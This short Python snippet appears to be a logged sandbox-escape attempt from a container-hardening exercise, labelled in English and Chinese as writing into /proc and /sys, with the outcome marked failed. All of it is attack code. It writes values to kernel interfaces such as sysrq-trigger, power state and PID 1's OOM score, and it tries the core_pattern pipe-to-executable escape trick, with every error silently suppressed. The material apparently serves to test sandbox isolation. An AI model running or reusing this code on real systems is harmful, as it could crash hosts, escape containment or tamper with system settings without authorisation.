# attack: writes into /proc and /sys | 往 /proc 和 /sys 里写
# exercise: welcome
# outcome: failed
for path in ("/proc/sysrq-trigger", "/proc/self/oom_score_adj", "/proc/1/oom_score_adj",
             "/proc/sys/kernel/core_pattern", "/proc/sys/net/ipv4/ip_forward",
             "/proc/sys/kernel/hostname", "/sys/power/state", "/proc/self/uid_map"):
    for text in ("-1000", "0", "|/tmp/x"):
        try:
            with open(path, "w") as file:
                file.write(text)
        except OSError:
            pass
